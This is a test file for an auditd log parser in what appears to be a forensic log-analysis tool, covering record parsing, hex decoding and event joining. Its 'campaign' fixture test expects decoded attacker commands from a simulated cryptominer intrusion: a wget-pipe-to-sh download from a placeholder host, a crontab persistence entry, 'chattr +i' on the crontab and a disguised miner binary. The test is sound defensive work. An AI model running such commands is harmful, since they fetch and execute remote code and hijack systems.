import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { EcsEvent } from '../../core/event.ts';
import type { SourceItem } from '../../core/stages.ts';
import { AUDIT_LIMITS, AuditJoiner, parseAuditLine, readAuditd, sniffAuditd } from './index.ts';
import type { AuditRecord } from './record.ts';

const real = fileURLToPath(
  new URL('../../../test/fixtures/linux/real/go-libaudit-audit.log', import.meta.url),
);
const campaign = fileURLToPath(new URL('../../../test/fixtures/linux/campaign/audit.log', import.meta.url));
const tmp = mkdtempSync(join(tmpdir(), 'deminer-auditd-'));
after(() => rmSync(tmp, { recursive: true, force: true }));

async function items(path: string): Promise<SourceItem[]> {
  const out: SourceItem[] = [];
  for await (const b of readAuditd(path)) out.push(...b);
  return out;
}
const events = (xs: SourceItem[]): EcsEvent[] => xs.flatMap((i) => (i.kind === 'event' ? [i.event] : []));
const data = (e: EcsEvent): Record<string, unknown> => e.winlog?.event_data ?? {};

function record(line: string, n = 1): AuditRecord {
  const r = parseAuditLine(line, n);
  assert.ok(!('error' in r), line);
  return r as AuditRecord;
}

test('a record: header, quoted, bare and hex-encoded values, the user-space message, ENRICHED fields', () => {
  const r = record(
    'node=web-01 type=SYSCALL msg=audit(1492800799.050:20294): arch=c000003e syscall=133 comm="systemd-logind" exe=2F7573722F6C69622F73797374656D642F73797374656D642D6C6F67696E643B3538663938633835202864656C6574656429 key=(null)\u001dARCH=x86_64 SYSCALL=mknod UID="root"',
  );
  assert.equal(r.node, 'web-01');
  assert.equal(r.type, 'SYSCALL');
  assert.equal(r.seconds, 1492800799);
  assert.equal(r.millis, 50);
  assert.equal(r.serial, 20294);
  assert.equal(r.fields.get('exe'), '/usr/lib/systemd/systemd-logind;58f98c85 (deleted)');
  assert.equal(r.fields.get('comm'), 'systemd-logind');
  assert.equal(r.fields.get('syscall'), '133', 'numbers are not hex-decoded');
  assert.equal(r.fields.has('key'), false, '(null) is no value');
  assert.equal(r.enriched.get('SYSCALL'), 'mknod');
  assert.equal(r.enriched.get('UID'), 'root');
  const u = record(
    'type=USER_LOGIN msg=audit(1492896301.818:19955): pid=12635 uid=0 msg=\'op=login acct=28696E76616C6964207573657229 exe="/usr/sbin/sshd" addr=179.38.151.221 res=failed\'',
  );
  assert.equal(u.fields.get('acct'), '(invalid user)');
  assert.equal(u.fields.get('exe'), '/usr/sbin/sshd');
  assert.equal(u.fields.get('res'), 'failed');
  // SYSCALL a0..a3 are numbers; EXECVE's bare a0..aN are hex text.
  assert.equal(record('type=SYSCALL msg=audit(1.000:1): a0=ABCD').fields.get('a0'), 'ABCD');
  assert.equal(record('type=EXECVE msg=audit(1.000:1): argc=1 a0=6C73').fields.get('a0'), 'ls');
  for (const bad of ['type=SYSCALL msg=garbage', 'hello', 'type=EXECVE msg=audit(x:1): argc=1', ''])
    assert.ok('error' in parseAuditLine(bad, 3), bad);
});

test('sniffing: an audit.log start, not other text', () => {
  const enc = (s: string) => new TextEncoder().encode(s);
  assert.equal(sniffAuditd(enc('type=DAEMON_START msg=audit(1700000000.123:456): op=start')), true);
  assert.equal(sniffAuditd(enc('node=h type=EOE msg=audit(1700000000.123:456):')), true);
  assert.equal(sniffAuditd(enc('{"type":"SYSCALL"}')), false);
  assert.equal(sniffAuditd(enc('Nov  2 03:20:01 web-02 CRON[3370]: type=x')), false);
});

test('the joiner: interleaved events, EOE, a time-out for events without EOE, bounds', () => {
  const j = new AuditJoiner();
  assert.deepEqual(j.push(record('type=SYSCALL msg=audit(100.000:1): pid=1')), []);
  assert.deepEqual(j.push(record('type=SYSCALL msg=audit(100.001:2): pid=2')), []);
  assert.deepEqual(j.push(record('type=CWD msg=audit(100.000:1): cwd="/"')), []);
  const one = j.push(record('type=EOE msg=audit(100.000:1):'));
  assert.deepEqual(
    one.map((e) => [e.serial, e.records.map((r) => r.type), e.ended]),
    [[1, ['SYSCALL', 'CWD'], true]],
  );
  // Event 2 has no EOE: a record more than the time-out later completes it.
  const later = j.push(
    record(`type=SYSCALL msg=audit(${100 + AUDIT_LIMITS.eventTimeoutSeconds + 1}.000:3): pid=3`),
  );
  assert.deepEqual(
    later.map((e) => [e.serial, e.ended]),
    [[2, false]],
  );
  assert.deepEqual(
    j.flush().map((e) => e.serial),
    [3],
  );

  const big = new AuditJoiner();
  for (let i = 0; i < AUDIT_LIMITS.recordsPerEvent + 5; i++)
    big.push(record(`type=PATH msg=audit(5.000:9): item=${i} name="/x"`));
  const [ev] = big.flush();
  assert.equal(ev!.records.length, AUDIT_LIMITS.recordsPerEvent);
  assert.equal(ev!.dropped, 5);

  const many = new AuditJoiner();
  let out = 0;
  for (let i = 0; i < AUDIT_LIMITS.pendingEvents + 10; i++)
    out += many.push(record(`type=SYSCALL msg=audit(7.000:${i}): pid=${i}`)).length;
  assert.equal(out, 10, 'past the pending bound the oldest events are completed');
  assert.equal(many.stats.evictedEarly, 10);
  assert.equal(many.flush().length, AUDIT_LIMITS.pendingEvents);
});

test('real audit logs (go-libaudit test data): events joined, values decoded, nothing reported', async () => {
  const xs = await items(real);
  assert.deepEqual(
    xs.filter((i) => i.kind === 'issue'),
    [],
  );
  const evs = events(xs);
  const stats = xs.find((i) => i.kind === 'stats');
  assert.equal(stats?.kind === 'stats' && stats.stats['auditEvents'], 11, 'eleven audit events');
  assert.equal(stats?.kind === 'stats' && stats.stats['auditBadLines'], 0);
  const grep = evs.find((e) => e.winlog?.record_id === 59 && e.winlog.event_id === 'EXECVE')!;
  assert.ok(grep, 'the grep EXECVE');
  assert.deepEqual(
    {
      a0: data(grep)['a0'],
      a2: data(grep)['a2'],
      Image: data(grep)['Image'],
      CommandLine: data(grep)['CommandLine'],
      CurrentDirectory: data(grep)['CurrentDirectory'],
      ProcessId: data(grep)['ProcessId'],
      ParentProcessId: data(grep)['ParentProcessId'],
      User: data(grep)['User'],
    },
    {
      a0: 'grep',
      a2: 'mapping',
      Image: '/usr/bin/grep',
      CommandLine: 'grep --color=auto mapping',
      CurrentDirectory: '/home/andrew_kroh',
      ProcessId: '13393',
      ParentProcessId: '12041',
      User: '1000',
    },
  );
  assert.equal(grep['@timestamp'], '2017-04-12T22:48:11.036Z');
  assert.deepEqual(grep.log, { file: { path: real }, line: 2 });
  // PATH records carry the SYSCALL's process but not its key (a key rule fires once per event).
  const paths = evs.filter((e) => e.winlog?.record_id === 59 && e.winlog.event_id === 'PATH');
  assert.deepEqual(
    paths.map((p) => [data(p)['name'], data(p)['exe'], data(p)['cwd'], data(p)['key']]),
    [
      ['/usr/bin/grep', '/usr/bin/grep', '/home/andrew_kroh', undefined],
      ['/lib64/ld-linux-x86-64.so.2', '/usr/bin/grep', '/home/andrew_kroh', undefined],
    ],
  );
  const sys = evs.find((e) => e.winlog?.record_id === 59 && e.winlog.event_id === 'SYSCALL')!;
  assert.equal(data(sys)['key'], 'user_commands');
  const logind = evs.find((e) => e.winlog?.record_id === 20294 && e.winlog.event_id === 'SYSCALL')!;
  assert.equal(data(logind)['exe'], '/usr/lib/systemd/systemd-logind;58f98c85 (deleted)');
  const ifconfig = evs.find((e) => e.winlog?.record_id === 753 && e.winlog.event_id === 'PROCTITLE')!;
  assert.equal(data(ifconfig)['proctitle'], 'ifconfig ens4 -promisc');
  const failed = evs.find((e) => e.winlog?.record_id === 19955)!;
  assert.equal(data(failed)['acct'], '(invalid user)');
  // The user-space message whose closing quote is missing still gives its fields.
  const started = evs.find((e) => e.winlog?.record_id === 4083)!;
  assert.equal(data(started)['unit'], 'rsyslog');
});

test('the campaign log: hex arguments, split arguments, an interleaved record, an event without EOE', async () => {
  const xs = await items(campaign);
  assert.deepEqual(
    xs.filter((i) => i.kind === 'issue'),
    [],
  );
  const execs = events(xs).filter((e) => e.winlog?.event_id === 'EXECVE');
  assert.deepEqual(
    execs.map((e) => data(e)['CommandLine']),
    [
      'ls --color=auto -la',
      'bash -c wget -q -O- http://198.51.100.4/xmr.sh | sh',
      'chattr +i /etc/crontab',
      '/sbin/modprobe msr allow_writes=on',
      '/tmp/.x/kswapd0 -o stratum+tcp://198.51.100.7:3333 --donate-level 1 -B',
      'id',
    ],
  );
  const cron = events(xs).filter((e) => e.winlog?.record_id === 9003);
  assert.deepEqual(
    cron.map((e) => [e.winlog?.event_id, data(e)['name'] ?? null]),
    [
      ['SYSCALL', null],
      ['CWD', null],
      ['PATH', '/etc/'],
      ['PATH', '/etc/crontab'],
      ['PROCTITLE', null],
    ],
  );
  assert.equal(
    data(cron[4]!)['proctitle'],
    'bash -c echo "*/5 * * * * root wget -q -O- http://198.51.100.4/xmr.sh | sh" >> /etc/crontab',
  );
  assert.ok(events(xs).some((e) => e.winlog?.event_id === 'USER_LOGIN' && data(e)['addr'] === '192.0.2.50'));
});

test('bad lines are issues with file:line; too long lines too; the rest is read', async () => {
  const p = join(tmp, 'mixed.log');
  writeFileSync(
    p,
    [
      'type=SYSCALL msg=audit(1.000:1): pid=1 exe="/bin/true"',
      'garbage line',
      `type=PATH msg=audit(1.000:1): name="${'x'.repeat(70 * 1024)}"`,
      'type=EOE msg=audit(1.000:1):',
      '\u0000\u0001\u0002',
    ].join('\n'),
  );
  const xs = await items(p);
  assert.deepEqual(
    xs.flatMap((i) => (i.kind === 'issue' ? [[i.issue.code, i.issue.location]] : [])),
    [
      ['AUDITD_BAD_LINE', `${p}:2`],
      ['AUDITD_LINE_TOO_LONG', `${p}:3`],
      ['AUDITD_BAD_LINE', `${p}:5`],
    ],
  );
  assert.equal(events(xs).length, 1);
});
